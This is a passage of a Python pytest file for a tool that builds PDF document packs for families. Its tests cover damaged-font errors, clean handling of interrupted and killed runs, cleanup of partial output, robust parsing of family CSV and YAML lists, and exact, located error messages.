    for i in range(glyf_off + glyf_len // 2, glyf_off + glyf_len // 2 + 400):
        noisy[i] = (i * 7919) % 256
    out["noisy-glyf"] = bytes(noisy)
    # loca pointing past the end of glyf
    bad_loca = bytearray(good)
    fmt = font["head"].indexToLocFormat
    width = 4 if fmt else 2
    big = (glyf_len * 4 if fmt else glyf_len) + 1000
    for i in range(loca_len // width // 2, loca_len // width):
        pos = loca_off + i * width
        bad_loca[pos:pos + width] = (big if fmt else big // 2 & 0xFFFF).to_bytes(width, "big")
    out["loca-past-glyf"] = bytes(bad_loca)
    # cmap table cut to nothing
    cmap_off, cmap_len = tables[b"cmap"]
    zeroed = bytearray(good)
    zeroed[cmap_off:cmap_off + cmap_len] = b"\xff" * cmap_len
    out["broken-cmap"] = bytes(zeroed)
    return out


@pytest.mark.parametrize("kind", ["truncated-glyf", "noisy-glyf", "loca-past-glyf",
                                  "broken-cmap"])
def test_a_damaged_brand_font_is_a_located_error_not_an_internal_one(tree, kind):
    good = (ROOT / "content" / "fonts" / "AtkinsonHyperlegibleNext-Regular.ttf").read_bytes()
    brand = tree / "content" / "brands" / "plain"
    for face in ("Bold", "Italic", "BoldItalic"):
        shutil.copy(ROOT / "content" / "fonts" / f"AtkinsonHyperlegibleNext-{face}.ttf",
                    brand / f"{face}.ttf")
    (brand / "Regular.ttf").write_bytes(_damaged_fonts(good)[kind])
    with open(brand / "brand.yaml", "a") as fh:
        fh.write("fonts: {regular: Regular.ttf, bold: Bold.ttf, italic: Italic.ttf, "
                 "bold_italic: BoldItalic.ttf}\n")
    code, _, err = run("--content", "content", "build", "sample", "--out", "out", cwd=tree)
    assert code == 2, err
    assert err.startswith("content/brands/plain/brand.yaml:7:18: error: fonts.regular: "
                          "'Regular.ttf' is not a usable TrueType font: "), err
    assert "internal error" not in err and "Traceback" not in err
    assert not (tree / "out").exists()


# --- 6. interrupted runs leave nothing behind ----------------------------------------------

def _families(folder: Path, n: int) -> Path:
    path = folder / "families.csv"
    path.write_text("id,parent_name,child_name\n" + "".join(
        f"family-{i:02d},Parent {i},Child {i}\n" for i in range(n)))
    return path


def test_ctrl_c_in_a_local_batch_stops_the_workers_within_seconds(tmp_path):
    import signal
    import subprocess
    import sys
    import time

    org = _org_with(tmp_path)
    rows = _families(tmp_path, 16)
    out = tmp_path / "packs"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen([sys.executable, str(ROOT / "make_kit.py"), "--org", str(org),
                             "batch", "riverside-adoption", str(rows), "--out", str(out),
                             "--no-progress", "--jobs", "2"], cwd=tmp_path, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            start_new_session=True)
    deadline = time.monotonic() + 240
    while not list(out.glob("*.pdf")) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert list(out.glob("*.pdf")), "no pack was built in time"
    os.killpg(proc.pid, signal.SIGINT)  # as a terminal's Ctrl-C: the whole process group
    stopped = time.monotonic()
    _, err = proc.communicate(timeout=30)
    assert time.monotonic() - stopped < 10
    assert proc.returncode == 130, err
    assert "Traceback" not in err and "the packs finished before the interrupt are kept" in err
    written = sorted(out.glob("*.pdf"))
    assert len(written) < 16
    stamped = [p for p in written if (out / f".{p.stem}.inputs").exists()]
    assert f"({len(stamped)} of the 16 this run was to build)" in err, err
    time.sleep(3)  # no worker goes on building after the interrupt
    assert sorted(out.glob("*.pdf")) == written
    for pack in written:
        reader(pack.read_bytes())  # each one whole


def test_leftovers_of_a_killed_run_are_removed_by_the_next(tree):
    out = tree / "out"
    code, _, err = run("--content", "content", "build", "sample", "--out", "out", cwd=tree)
    assert code == 0, err
    before = _digest(out)
    # what a run killed with SIGKILL half-way through leaves: a staging folder with a half pack
    left = out / ".partial-killed"
    (left / "sample").mkdir(parents=True)
    (left / ".make_kit-staging").write_text("999999999")
    (left / "sample" / "handout.pdf").write_bytes(b"%PDF-1.7 half a pack of someone's data")
    mine = out / ".partial-notes"  # a folder of the user's with the same prefix is not touched
    mine.mkdir()
    (mine / "keep.txt").write_text("mine")
    assert _digest(out) != before
    code, _, err = run("--content", "content", "build", "sample", "--out", "out", cwd=tree)
    assert code == 0, err
    assert not left.exists()
    assert (mine / "keep.txt").read_text() == "mine"
    shutil.rmtree(mine)
    after = _digest(out)
    assert after.keys() == before.keys()


def test_a_killed_build_leaves_the_previous_output_whole(tree):
    import signal
    import subprocess
    import sys
    import time

    out = tree / "out"
    assert run("--content", "content", "build", "sample", "--out", "out", cwd=tree)[0] == 0
    before = _digest(out)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for delay in (0.5, 1.5, 3.0):
        proc = subprocess.Popen([sys.executable, str(ROOT / "make_kit.py"), "--content",
                                 "content", "build", "sample", "--out", "out"], cwd=tree,
                                env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
        visible = {k: v for k, v in _digest(out).items() if not k.startswith(".partial-")}
        assert visible == before
    assert run("--content", "content", "build", "sample", "--out", "out", cwd=tree)[0] == 0
    assert not [p for p in out.iterdir() if p.name.startswith(".partial-")]


def _marked(store, name: str, **mark) -> None:
    import json

    store.fs.pipe_file(f"{store.root}/{name}/.make_kit-staging", json.dumps(mark).encode())
    store.fs.pipe_file(f"{store.root}/{name}/ann.pdf", b"%PDF-1.7 half of Ann's pack")


def test_a_batch_to_a_url_removes_the_partial_objects_a_killed_run_left(tree, monkeypatch):
    import uuid

    from kit.output import OutputError
    from kit.store import open_store

    url = f"memory://leftovers-{uuid.uuid4().hex}"
    store = open_store(url)
    fs = store.fs
    # what a run killed between staging and moving leaves: its own write, stopped half-way
    with monkeypatch.context() as m:
        m.setattr(fs, "mv", lambda *a, **k: (_ for _ in ()).throw(OSError("killed")))
        m.setattr(fs, "rm", lambda *a, **k: None)
        with pytest.raises(OutputError):
            store.write({"ann.pdf": b"%PDF-1.7 half of Ann's pack", ".ann.inputs": b"x"})
    left = [p for p in fs.ls(store.root, detail=False) if "/.partial-" in p]
    assert len(left) == 1
    fs.pipe_file(f"{store.root}/.partial-notes/keep.txt", b"not the tool's")  # no mark
    fs.pipe_file(f"{store.root}/.partial-odd/.make_kit-staging", b"not json")
    (tree / "families.csv").write_text("id,child_name\nann,Ann\n")
    code, _, err = run("--content", "content", "batch", "sample", "families.csv", "--out", url,
                       "--no-progress", "--jobs", "1", cwd=tree)
    assert code == 0, err
    names = sorted(p.rsplit("/", 1)[-1] for p in fs.ls(store.root, detail=False))
    assert ".partial-notes" in names and ".partial-odd" in names and "ann.pdf" in names
    assert [n for n in names if n.startswith(".partial-")] == [".partial-notes", ".partial-odd"]
    assert fs.cat_file(f"{store.root}/.partial-notes/keep.txt") == b"not the tool's"
    assert fs.cat_file(f"{store.root}/ann.pdf").startswith(b"%PDF-") and \
        fs.cat_file(f"{store.root}/ann.pdf") != b"%PDF-1.7 half of Ann's pack"


def test_partial_objects_of_a_run_still_writing_are_left_alone():
    import socket
    import subprocess
    import sys
    import time
    import uuid

    from kit.store import ABANDONED, open_store

    store = open_store(f"memory://partials-{uuid.uuid4().hex}")
    store.prepare()
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True)
    here, now = socket.gethostname(), time.time()
    _marked(store, ".partial-dead", host=here, pid=int(gone.stdout), time=now)
    _marked(store, ".partial-alive", host=here, pid=os.getppid(), time=now)
    _marked(store, ".partial-far-old", host=here + "-other", pid=1, time=now - ABANDONED - 60)
    _marked(store, ".partial-far-new", host=here + "-other", pid=1, time=now)
    store.remove_leftovers()
    names = sorted(p.rsplit("/", 1)[-1] for p in store.fs.ls(store.root, detail=False))
    assert names == [".partial-alive", ".partial-far-new"]


def test_whether_another_run_is_alive_is_one_public_helper_for_folders_and_urls():
    import subprocess
    import sys

    from kit import output, store
    from kit.output import process_alive

    assert store.process_alive is output.process_alive  # the local and URL cleanups ask alike
    running = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        assert process_alive(running.pid)
    finally:
        running.kill()
        running.wait(timeout=30)
    assert not process_alive(running.pid)  # gone (and reaped)
    assert not process_alive(os.getpid())  # this run is not "another run"
    assert not process_alive(0) and not process_alive(-1)


# --- 7. family lists lose no family ---------------------------------------------------------

def _read(tmp_path, text: str, name="families.csv", column=None):
    from kit.families import read_families

    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    old = os.getcwd()
    os.chdir(tmp_path)
    try:
        return read_families(Path(name), column)
    finally:
        os.chdir(old)


def _errors(tmp_path, text: str) -> list[str]:
    from kit.errors import ContentError

    with pytest.raises(ContentError) as info:
        _read(tmp_path, text)
    return [str(p) for p in info.value.problems]


def test_duplicate_and_missing_headings_stop_the_file_with_row_and_column(tmp_path):
    assert _errors(tmp_path, "id,child_name,child_name\na,B,C\n") == [
        "families.csv:1: error: heading row, column 3: 'child_name' is also the heading of "
        "column 2; each column needs its own heading"]
    assert _errors(tmp_path, "id,,child_name\na,lost,C\n") == [
        "families.csv:1: error: heading row, column 2: this column has values but no heading"]


def test_an_unterminated_quote_is_located_not_absorbed(tmp_path):
    text = 'id,child_name\na,Ann\nb,"Bo\nc,Cy\nd,Di\n'
    assert _errors(tmp_path, text) == [
        'families.csv:3: error: row 2: a quote (") opened in this row is never closed, so every '
        "row after it would be read as part of one cell; close the quote"]


def test_ragged_rows_fail_alone(tmp_path):
    table = _read(tmp_path, "id,child_name,parent_name\na,Ann,Al\nb,Bo\nc,Cy,Cal,extra\n"
                            "d,Di,Dan,\n\ne,Ed,Eve\n")
    assert [r.name for r in table.rows if r.number not in table.problems] == ["a", "d", "e"]
    assert str(table.problems[2]) == (
        "families.csv:3: error: row 2, column 3: this row has 2 cells, the heading row 3 (a "
        "missing or extra comma?); this family's pack was not built")
    assert str(table.problems[3]).startswith("families.csv:4: error: row 3, column 4: this row "
                                             "has 4 cells")


@pytest.mark.parametrize("sep, word", [(";", "semicolons"), ("\t", "tabs")])
def test_semicolons_and_tabs_are_detected_and_said(tmp_path, sep, word):
    table = _read(tmp_path, f"id{sep}child_name{sep}note\na{sep}Ann{sep}x, y\nb{sep}Bo{sep}\n")
    assert [(r.name, r.values["child_name"], r.values["note"]) for r in table.rows] == [
        ("a", "Ann", "x, y"), ("b", "Bo", "")]
    assert [str(w) for w in table.warnings] == [
        f"families.csv:1: warning: cells are separated by {word}, not commas; read so"]


def test_names_keep_their_letters_and_never_share_a_file(tmp_path):
    table = _read(tmp_path, "id\nŁukasz Nowak\nĐorđe\n王芳\nمحمد\nZoë\nZoe\n😀\ncon\nAUX\n")
    names = {r.number: r.name for r in table.rows}
    assert names[1] == "lukasz-nowak" and names[2] == "dorde" and names[3] == "wang-fang"
    assert names[4] and names[4] != "item"
    assert names[8] == "con-family" and names[9] == "aux-family"
    assert str(table.problems[6]) == ("families.csv:7: error: row 6, column id: 'Zoe' names the "
                                      "same pack as row 5")
    assert "no letters or digits" in str(table.problems[7])
    kept = [r.name for r in table.rows if r.number not in table.problems]
    assert len(kept) == len(set(kept)) == 7


def test_yaml_rows_with_structural_problems_fail_alone(tmp_path):
    table = _read(tmp_path, "- {id: a, child_name: Ann}\n- [not, a, mapping]\n"
                            "- {id: c, child_name: {nested: x}}\n- {id: d}\n", "families.yaml")
    assert sorted(table.problems) == [2, 3]
    assert [r.name for r in table.rows if r.number not in table.problems] == ["a", "d"]


def test_a_batch_reports_bad_rows_and_unused_columns_and_builds_the_rest(tree):
    doc = tree / "content" / "en" / "documents" / "handout.yaml"
    doc.write_text(doc.read_text().replace("body:\n", "body:\n  - p: \"For {{ family.child_name "
                                                      "| default('your child') }}.\"\n", 1))
    (tree / "families.csv").write_text(
        "id;child_name;chlid_age;referral_doctor_name\nann;Ann;3;Dr A\nbo;Bo\ncy;Cy;5;Dr C\n")
    code, out, err = run("--content", "content", "batch", "sample", "families.csv", "--out",
                         "packs", "--no-progress", "--jobs", "1", cwd=tree)
    assert code == 2, err
    assert out.strip().endswith("3 packs: 2 built, 0 unchanged, 1 failed")
    lines = err.strip().splitlines()
    assert "families.csv:1: warning: cells are separated by semicolons, not commas; read so" \
        in lines
    assert any(line.startswith("families.csv:1: warning: heading row, column 3: no "
                               "{{ family.chlid_age }}") for line in lines), err
    assert not any("column 2: no" in line or "column 4: no" in line for line in lines), err
    assert any(line.startswith("families.csv:3: error: row 2, column 3: this row has 2 cells")
               for line in lines), err
    assert sorted(p.name for p in (tree / "packs").glob("*.pdf")) == ["ann.pdf", "cy.pdf"]


def test_check_and_batch_warn_about_an_unused_column_in_the_same_words(tree):
    doc = tree / "content" / "en" / "documents" / "handout.yaml"
    doc.write_text(doc.read_text().replace("body:\n", "body:\n  - p: \"For {{ family['child_name'] "
                                                      "| default('your child') }}.\"\n", 1))
    (tree / "families.csv").write_text("id,child_name,chlid_name,notes\nann,Ann,A,x\n")
    code, _, checked = run("--content", "content", "check", "sample", "--families",
                           "families.csv", cwd=tree)
    assert code == 0, checked
    code, _, batched = run("--content", "content", "batch", "sample", "families.csv", "--out",
                           "packs", "--no-progress", "--jobs", "1", cwd=tree)
    assert code == 0, batched

    def unused(err):
        return [line for line in err.splitlines() if "this column is not used" in line]

    assert unused(checked) == unused(batched) == [
        "families.csv:1: warning: heading row, column 3: no {{ family.chlid_name }} in the "
        "kit's documents and no form field named 'chlid_name': this column is not used (did "
        "you mean 'child_name'?)",
        "families.csv:1: warning: heading row, column 4: no {{ family.notes }} in the kit's "
        "documents and no form field named 'notes': this column is not used"]


# --- 8. messages stay exact -----------------------------------------------------------------

def test_a_long_plain_list_with_one_small_alias_is_not_called_an_alias_bomb(tmp_path):
    from kit.errors import ContentError
    from kit.loader import MAX_NODES, load_yaml

    path = tmp_path / "doc.yaml"
    path.write_text("a: &x hello\nb: *x\nc:\n" + "  - item\n" * (MAX_NODES + 10))
    with pytest.raises(ContentError) as info:
        load_yaml(path)
    message = info.value.problems[0].message
    assert "alias bomb" not in message and "in one file" in message


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x1b", "\x7f", "\ufffe"])
def test_control_characters_are_located_with_line_and_column(tmp_path, char):
    from kit.errors import ContentError
    from kit.loader import load_yaml

    path = tmp_path / "doc.yaml"
    path.write_text(f"title: fine\nbody:\n  - ab{char}cd\n", encoding="utf-8")
    with pytest.raises(ContentError) as info:
        load_yaml(path)
    problem = info.value.problems[0]
    assert (problem.line, problem.col) == (3, 7), problem
    assert "U+" in problem.message or "NUL" in problem.message


def test_a_pdf_entry_named_like_a_device_gets_a_safe_file_name():
    from kit.schema import PdfEntry

    assert PdfEntry(pdf="pdfs/con.pdf", title="Consent").name == "con-pdf"
    assert PdfEntry(pdf="pdfs/Consent Form.pdf", title="Consent").name == "consent-form"


def test_a_warning_never_stops_a_batch(tmp_path):
    """An untagged organisation PDF is a warning; with a kit that needs family values (so it
    cannot load without a row), the batch still builds every family."""
    org = _org_with(tmp_path, lambda p: make_hostile_pdf(p, tagged=False))
    welcome = org / "documents" / "welcome.yaml"
    welcome.write_text(welcome.read_text().replace(
        "family.child_name | default('your child')", "family.child_name"))
    out = tmp_path / "packs"
    code, stdout, err = run("--org", org, "batch", "riverside-adoption", org / "families.csv",
                            "--out", out, "--jobs", "1", "--no-progress")
    assert code == 0, err
    assert "not a tagged PDF" in err and "active content removed" in err
    assert stdout.strip().endswith("3 packs: 3 built, 0 unchanged, 0 failed")
